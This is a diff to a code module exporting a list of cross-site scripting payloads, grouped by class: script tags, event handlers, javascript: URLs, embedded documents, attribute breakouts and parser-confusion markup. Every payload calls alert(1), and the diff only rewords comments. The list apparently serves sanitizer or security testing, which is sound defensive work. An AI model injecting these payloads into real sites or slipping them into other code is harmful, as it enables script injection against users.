@@ -1,4 +1,4 @@
-/** Ways to run a script from text, of different classes. Each calls alert. Shorter than any field. */
+/** Payloads of different classes that run a script from text. Each calls alert and fits any field. */
 export const xssPayloads = [
   // Elements that run by themselves.
   "<script>alert(1)</script>",
@@ -13,7 +13,7 @@ export const xssPayloads = [
   "<noscript><p title='</noscript><script>alert(1)</script>'>",
   "<template><script>alert(1)</script></template>",
   "<xmp><script>alert(1)</script></xmp>",
-  // Events that need nobody.
+  // Events that fire without interaction.
   "<img src=x onerror=alert(1)>",
   "<img/src/onerror=alert(1)>",
   "<img src=x:x onerror=alert(1)//",
@@ -39,7 +39,7 @@ export const xssPayloads = [
   "<p onpointerenter=alert(1)>enter</p>",
   "<b contenteditable oninput=alert(1)>type</b>",
   "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>",
-  // Addresses that are scripts.
+  // URLs that run a script.
   "<a href=javascript:alert(1)>x</a>",
   "<a href='java&Tab;script:alert(1)'>x</a>",
   "<a href=' javascript:alert(1)'>x</a>",
@@ -52,13 +52,13 @@ export const xssPayloads = [
   "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
   "<base href=javascript:alert(1)//>",
   "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
-  // Documents inside.
+  // Embedded documents.
   "<iframe src=javascript:alert(1)>",
   "<iframe srcdoc='<script>parent.alert(1)</script>'>",
   "<object data=javascript:alert(1)>",
   "<embed src=javascript:alert(1)>",
   "<link rel=import href=data:text/html,<script>alert(1)</script>>",
-  // Ways out of where the text stands.
+  // Breaking out of the surrounding markup.
   '"><script>alert(1)</script>',
   "'><img src=x onerror=alert(1)>",
   '" autofocus onfocus=alert(1) x="',
@@ -75,7 +75,7 @@ export const xssPayloads = [
   '"-alert(1)-"',
   // biome-ignore format: one payload a line
   "\u2028alert(1)\u2029",
-  // Markup that parsers disagree about.
+  // Markup that parsers read differently.
   "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
   "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
   "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
